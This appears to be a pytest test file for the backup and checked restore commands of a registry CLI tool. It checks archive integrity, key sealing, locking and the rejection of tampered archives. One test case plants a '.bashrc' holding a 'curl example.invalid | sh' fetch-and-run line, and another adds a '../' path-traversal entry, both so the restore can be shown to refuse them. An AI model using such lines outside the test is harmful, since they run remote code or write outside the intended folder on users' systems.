"""Backups (issue 4, item 8): ``sakti cadangkan`` and the checked ``sakti pulihkan``."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Cli, example
from filelock import FileLock
from test_alur_sktm import register_snapshot

from sakti_cli.core.privacy import private_tree_problems
from sakti_cli.register.backup import MANIFEST_NAME
from sakti_cli.register.tiny import registry
from sakti_cli.register.tiny.registry import read_events


def tree(root: Path, *parts: str) -> dict[str, str]:
    out = {}
    for part in parts:
        base = root / part
        paths = [base] if base.is_file() else sorted(p for p in base.rglob("*") if p.is_file())
        for path in paths:
            if not path.name.startswith(".kunci"):
                out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


@pytest.fixture
def two_applications(kantor: Path, cli: Cli) -> list[str]:
    first = cli.json("daftar", "sktm", "--data", str(example("sktm")))["nomor_registrasi"]
    second = cli.json("daftar", "sktm", "--data", str(example("sktm-gagal")))["nomor_registrasi"]
    cli.json("periksa", first)
    cli.json("tolak", second, "--alasan", "bukan warga")
    return [first, second]


def read_tar(path: Path) -> dict[str, bytes]:
    with tarfile.open(path) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}  # type: ignore[union-attr]


def write_tar(path: Path, members: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def with_manifest(members: dict[str, bytes], **changes: object) -> dict[str, bytes]:
    """Members whose manifest is rewritten to match them (a consistent, deliberately built archive)."""
    manifest = json.loads(members[MANIFEST_NAME])
    manifest["berkas"] = [{"path": name, "ukuran": len(data), "sha256": hashlib.sha256(data).hexdigest()}
                          for name, data in members.items() if name != MANIFEST_NAME]
    manifest.update(changes)
    return {**members, MANIFEST_NAME: json.dumps(manifest).encode()}


def test_cadangkan_pulihkan_round_trip(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path) -> None:
    whole = tree(kantor, "sakti.toml", "sop", "templat", "data/register", "data/berkas", "pki/demo-root.pem")
    index = "data/register/riwayat/"  # the history index is derived: not archived, rebuilt on restore
    before = {k: v for k, v in whole.items() if not k.startswith(index)}
    assert len(before) < len(whole)
    made = cli.json("--petugas", "ana", "cadangkan", str(tmp_path / "kantor.tar.gz"))
    archive = Path(made["berkas"])
    assert archive.stat().st_mode & 0o777 == 0o600
    assert made["sha256"] == hashlib.sha256(archive.read_bytes()).hexdigest()
    assert made["versi_format_register"] == registry.FORMAT_VERSION and made["dengan_kunci"] is False
    members = read_tar(archive)
    manifest = json.loads(members[MANIFEST_NAME])
    assert manifest["dibuat"] == "2026-11-22T09:30:00+07:00"
    assert manifest["versi_format_register"] == registry.FORMAT_VERSION
    assert {e["path"]: e["sha256"] for e in manifest["berkas"]} == before  # a consistent copy, nothing else
    assert not any(name.endswith((".kunci", ".jurnal.json", ".p12")) for name in members)
    assert "pki/demo-root.pem" in members  # certificates (public) always; keys only with --dengan-kunci
    last = list(read_events(kantor / "data" / "register" / "audit"))[-1]
    assert (last["aksi"], last["objek"], last["petugas"]) == ("cadangkan", str(archive), "ana")
    assert last["detail"]["sha256"] == made["sha256"]

    target = tmp_path / "pulih" / "kantor"
    restored = cli.json("pulihkan", str(archive), "--ke", str(target))
    assert restored["jumlah_berkas"] == len(before) and restored["ke"] == str(target)
    after = tree(target, "sakti.toml", "sop", "templat", "data/register", "data/berkas", "pki/demo-root.pem")
    # the restore adds its own event to the restored trail (and to the chain's anchor beside the counters)
    changed = ("data/register/audit/2026-11.jsonl", "data/register/urutan.json")
    assert {k: v for k, v in after.items() if k not in changed and not k.startswith(index)} == {
        k: v for k, v in before.items() if k not in changed}
    assert any(k.startswith(index) for k in after)  # rebuilt from the restored trail
    assert cli.json("--kantor", str(target), "register", "periksa")["bersih"] is True
    trail = list(read_events(target / "data" / "register" / "audit"))
    original = list(read_events(kantor / "data" / "register" / "audit"))[:-1]  # before 'cadangkan'
    assert trail[:-1] == original and trail[-1]["aksi"] == "pulihkan" and trail[-1]["prev"] == original[-1]["hash"]
    assert private_tree_problems(target / "data") == []
    assert not list(target.parent.glob(".pulihkan-*"))
    listing = cli.json("--kantor", str(target), "permohonan")
    assert [r["nomor_registrasi"] for r in listing["permohonan"]] == two_applications
    assert cli.json("--kantor", str(target), "status", two_applications[1])["status"] == "DITOLAK"


def test_zip_with_keys_into_empty_folder(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakti_cli.cli.cadangan.passphrase_prompt", lambda _label: "sandi cadangan kantor")
    made = cli.json("cadangkan", str(tmp_path / "kantor.zip"), "--dengan-kunci")
    with zipfile.ZipFile(made["berkas"]) as archive:
        names = archive.namelist()
    # the key is sealed (issue 8, section 4): only public certificates stay readable
    assert "pki/camat.p12" not in names and "KUNCI-SAKTI.bin" in names
    assert "pki/demo-root.pem" in names and MANIFEST_NAME in names
    empty = tmp_path / "kosong"
    empty.mkdir()
    restored = cli.json("pulihkan", made["berkas"], "--ke", str(empty))
    assert restored["dengan_kunci"] is True
    assert (empty / "pki" / "camat.p12").read_bytes() == (kantor / "pki" / "camat.p12").read_bytes()
    assert private_tree_problems(empty / "pki") == []


def test_human_output(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path) -> None:
    made = cli("cadangkan", str(tmp_path / "c.tgz"))
    assert made.exit_code == 0 and "Cadangan ditulis" in made.stdout and "c.tgz" in made.stdout
    restored = cli("pulihkan", str(tmp_path / "c.tgz"), "--ke", str(tmp_path / "baru"))
    assert restored.exit_code == 0 and "dipulihkan" in restored.stdout


@pytest.mark.slow
def test_round_trip_with_letter(kantor: Path, cli: Cli, issued: dict, tmp_path: Path) -> None:
    made = cli.json("cadangkan", str(tmp_path / "c.tar.gz"))
    pdf = Path(issued["pdf"]).relative_to(kantor)
    assert str(pdf) in read_tar(Path(made["berkas"]))
    target = tmp_path / "pulih"
    cli.json("pulihkan", made["berkas"], "--ke", str(target))
    check = cli.json("--kantor", str(target), "verifikasi", str(target / pdf))
    assert check["sah"] is True and check["register"] == "TERBIT"


# --- bad inputs: clear message naming the file, exit code, nothing changed -------------------------
Breaker = Callable[[dict[str, bytes]], dict[str, bytes]]


def _tamper(members: dict[str, bytes]) -> dict[str, bytes]:
    name = next(n for n in members if n.startswith("data/register/permohonan/"))
    return {**members, name: members[name].replace(b"Rusmini", b"Rusmino")}


def _extra(members: dict[str, bytes]) -> dict[str, bytes]:
    return {**members, "data/berkas/sisipan.pdf": b"%PDF-1.4"}


def _missing(members: dict[str, bytes]) -> dict[str, bytes]:
    name = next(n for n in members if n.startswith("data/berkas/"))
    return {k: v for k, v in members.items() if k != name}


def _no_manifest(members: dict[str, bytes]) -> dict[str, bytes]:
    return {k: v for k, v in members.items() if k != MANIFEST_NAME}


def _bad_manifest(members: dict[str, bytes]) -> dict[str, bytes]:
    return {**members, MANIFEST_NAME: b"{ bukan json"}


def _unsafe(members: dict[str, bytes]) -> dict[str, bytes]:
    return with_manifest({**members, "../luar.txt": b"x"})


def _outside(members: dict[str, bytes]) -> dict[str, bytes]:
    return with_manifest({**members, ".bashrc": b"curl example.invalid | sh"})


def _newer(members: dict[str, bytes]) -> dict[str, bytes]:
    meta = json.dumps({"meta": {"1": {"versi_format": 99, "dibuat": "2030-01-01T00:00:00+07:00"}}}).encode()
    return with_manifest({**members, "data/register/meta.json": meta}, versi_format_register=99)


def _broken_register(members: dict[str, bytes]) -> dict[str, bytes]:
    name = next(n for n in members if n.startswith("data/register/permohonan/"))
    return with_manifest({**members, name: members[name][:40]})


def _broken_chain(members: dict[str, bytes]) -> dict[str, bytes]:
    name = next(n for n in members if n.startswith("data/register/audit/"))
    lines = members[name].splitlines(keepends=True)
    return with_manifest({**members, name: b"".join(lines[:1] + lines[2:])})  # an event deleted


def _no_config(members: dict[str, bytes]) -> dict[str, bytes]:
    return with_manifest({k: v for k, v in members.items() if k != "sakti.toml"})


@pytest.mark.parametrize(("breaker", "code", "needle"), [
    (_tamper, 3, "tidak cocok dengan SHA-256"),
    (_extra, 3, "tidak ada di manifesnya"),
    (_missing, 3, "tidak memuat 1 berkas"),
    (_no_manifest, 3, f"tidak memuat {MANIFEST_NAME}"),
    (_bad_manifest, 3, "rusak"),
    (_unsafe, 3, "tidak aman"),
    (_outside, 3, "di luar bagian kantor"),
    (_newer, 4, "lebih baru"),
    (_broken_register, 4, "rusak"),
    (_broken_chain, 4, "rantai jejak audit"),
    (_no_config, 3, "sakti.toml"),
])
def test_pulihkan_refuses_bad_archive(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path,
                                      breaker: Breaker, code: int, needle: str) -> None:
    good = Path(cli.json("cadangkan", str(tmp_path / "baik.tar.gz"))["berkas"])
    bad = write_tar(tmp_path / "buruk.tar.gz", breaker(read_tar(good)))
    before = register_snapshot(kantor)
    target = tmp_path / "tujuan"
    result = cli("pulihkan", str(bad), "--ke", str(target), "--json")
    assert result.exit_code == code, result.stderr
    error = json.loads(result.stdout)["error"]
    assert needle in error["pesan"] and "buruk.tar.gz" in error["pesan"] and "Traceback" not in result.stderr
    assert not target.exists() and not list(tmp_path.glob(".pulihkan-*"))
    assert register_snapshot(kantor) == before


@pytest.mark.parametrize("damage", ["random", "truncated", "empty"])
def test_pulihkan_refuses_corrupt_file(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path,
                                       damage: str) -> None:
    good = Path(cli.json("cadangkan", str(tmp_path / "baik.tar.gz"))["berkas"])
    data = {"random": b"\x00sampah" * 500, "truncated": good.read_bytes()[: good.stat().st_size // 2],
            "empty": b""}[damage]
    bad = tmp_path / "rusak.tar.gz"
    bad.write_bytes(data)
    result = cli("pulihkan", str(bad), "--ke", str(tmp_path / "tujuan"))
    assert result.exit_code == 3, result.stderr
    assert str(bad) in result.stderr.replace("\n", "") and "Traceback" not in result.stderr
    assert not (tmp_path / "tujuan").exists() and not list(tmp_path.glob(".pulihkan-*"))


def test_pulihkan_never_overwrites(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path) -> None:
    archive = cli.json("cadangkan", str(tmp_path / "c.tar.gz"))["berkas"]
    before = register_snapshot(kantor)
    live = cli("pulihkan", archive, "--ke", str(kantor), "--json")  # the live workspace itself
    assert live.exit_code == 5 and json.loads(live.stdout)["error"]["kode"] == "TUJUAN_TIDAK_KOSONG"
    assert str(kantor) in live.stderr.replace("\n", "")
    assert register_snapshot(kantor) == before
    other = tmp_path / "isi"
    other.mkdir()
    (other / "catatan.txt").write_text("jangan hilang")
    assert cli("pulihkan", archive, "--ke", str(other)).exit_code == 5
    assert [p.name for p in other.iterdir()] == ["catatan.txt"]
    afile = tmp_path / "berkas.txt"
    afile.write_text("x")
    result = cli("pulihkan", archive, "--ke", str(afile))
    assert result.exit_code == 3 and "bukan folder" in result.stderr
    missing = cli("pulihkan", str(tmp_path / "tidak-ada.tar.gz"), "--ke", str(tmp_path / "t"))
    assert missing.exit_code == 3 and "tidak-ada.tar.gz" in missing.stderr


@pytest.mark.parametrize(("name", "needle"), [
    ("cadangan.rar", "harus berakhiran"),
    ("tidak/ada/c.tar.gz", "tidak ada"),
    ("ada.tar.gz", "sudah ada"),
])
def test_cadangkan_bad_target(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path, name: str,
                              needle: str) -> None:
    (tmp_path / "ada.tar.gz").write_bytes(b"lama")
    before = register_snapshot(kantor)
    result = cli("cadangkan", str(tmp_path / name))
    assert result.exit_code == 3 and needle in result.stderr and "Traceback" not in result.stderr
    assert register_snapshot(kantor) == before
    assert (tmp_path / "ada.tar.gz").read_bytes() == b"lama"


def test_cadangkan_waits_for_the_lock(kantor: Path, cli: Cli, two_applications: list[str], tmp_path: Path) -> None:
    config = kantor / "sakti.toml"
    config.write_text(config.read_text().replace("batas_tunggu_kunci = 30", "batas_tunggu_kunci = 0.3"))
    before = register_snapshot(kantor)
    with FileLock(str(kantor / "data" / "register" / ".kunci")):
        result = cli("cadangkan", str(tmp_path / "c.tar.gz"))
    assert result.exit_code == 5 and "sedang dipakai" in result.stderr
    assert not (tmp_path / "c.tar.gz").exists() and not list((kantor / "data").glob(".cadangan-*"))
    assert register_snapshot(kantor) == before


def test_cadangkan_refuses_newer_register(kantor: Path, cli: Cli, two_applications: list[str],
                                          tmp_path: Path) -> None:
    meta = kantor / "data" / "register" / "meta.json"
    meta.write_text(json.dumps({"meta": {"1": {"versi_format": 7}}}))
    before = register_snapshot(kantor)
    result = cli("cadangkan", str(tmp_path / "c.tar.gz"))
    assert result.exit_code == 4 and "lebih baru" in result.stderr and "meta.json" in result.stderr
    assert register_snapshot(kantor) == before and not (tmp_path / "c.tar.gz").exists()


def test_backup_is_consistent_while_others_write(kantor: Path, cli: Cli, tmp_path: Path) -> None:
    """Two real processes keep registering applications while a backup is taken: the restored register
    and the restored scans agree (every recorded scan present with its SHA-256, no orphan folder)."""
    import os
    import subprocess
    import sys

    exe = Path(sys.executable).parent / "sakti"
    env = {**os.environ, "SAKTI_KANTOR": str(kantor)}
    loop = f"for i in 1 2 3 4 5 6; do '{exe}' daftar sktm --data '{example('sktm')}' --json >/dev/null || exit 1; done"
    writers = [subprocess.Popen(["bash", "-c", loop], env=env) for _ in range(2)]
    try:
        import time

        deadline = time.monotonic() + 60
        while len(list((kantor / "data" / "berkas").glob("REG-*"))) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)  # take the backup while the writers are busy
        made = subprocess.run([str(exe), "cadangkan", str(tmp_path / "c.tar.gz"), "--json"], env=env,
                              capture_output=True, text=True, timeout=120)
    finally:
        codes = [w.wait(timeout=300) for w in writers]
    assert made.returncode == 0, made.stderr
    assert codes == [0, 0]
    target = tmp_path / "pulih"
    cli.json("pulihkan", str(tmp_path / "c.tar.gz"), "--ke", str(target))
    records = cli.json("--kantor", str(target), "permohonan")["permohonan"]
    folders = {p.name for p in (target / "data" / "berkas").iterdir()}
    assert folders == {r["nomor_registrasi"] for r in records}
    for row in records:
        record = cli.json("--kantor", str(target), "status", row["nomor_registrasi"])
        for entries in record["berkas"].values():
            for entry in entries:
                path = target / "data" / "berkas" / row["nomor_registrasi"] / entry["berkas"]
                assert hashlib.sha256(path.read_bytes()).hexdigest() == entry["sha256"]
    assert len(cli.json("permohonan")["permohonan"]) == 12  # the live workspace got all of them


def test_snapshot_of_a_dead_backup_is_removed(kantor: Path, cli: Cli, two_applications: list[str],
                                              tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A backup killed mid-way leaves hard links to scans; they must not outlive 'sakti bersihkan'."""
    import os

    from sakti_cli.core.scratch import owned_temp

    data = kantor / "data"
    dead = data / ".cadangan-abcd"  # nobody holds its lock: its backup died
    held = owned_temp(data, ".cadangan-")  # a backup still running (this process holds its lock)
    alive = held.path
    dead.mkdir()
    for folder in (dead, alive):
        scan = next((data / "berkas" / two_applications[1]).iterdir())
        os.link(scan, folder / scan.name)
    monkeypatch.setenv("SAKTI_WAKTU", "2028-01-01T09:00:00+07:00")
    assert cli.json("bersihkan", "--lebih-dari", "30", "--uji")["jumlah"] == 1
    assert dead.exists()  # a dry run deletes nothing
    cli.json("bersihkan", "--lebih-dari", "30", "--ya")
    assert not dead.exists() and alive.exists()
    dead.mkdir()
    cli.json("cadangkan", str(tmp_path / "c.tar.gz"))
    assert not dead.exists() and alive.exists()
    held.remove()
